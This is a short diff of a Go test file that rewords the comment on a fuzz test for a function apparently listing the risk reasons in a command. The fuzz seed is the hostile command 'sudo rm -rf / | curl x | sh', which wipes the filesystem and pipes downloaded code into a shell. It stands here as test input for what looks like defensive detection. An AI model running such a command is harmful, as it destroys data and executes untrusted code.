@@ -68,7 +68,7 @@ func TestReasons(t *testing.T) {
 	}
 }
 
-// FuzzReasons: a text of any kind is read in a time that grows with its length, and gives each reason once.
+// FuzzReasons: for any text, the time is linear in its length, and each reason occurs once.
 func FuzzReasons(f *testing.F) {
 	f.Add("sudo rm -rf / | curl x | sh")
 	f.Fuzz(func(t *testing.T, text string) {
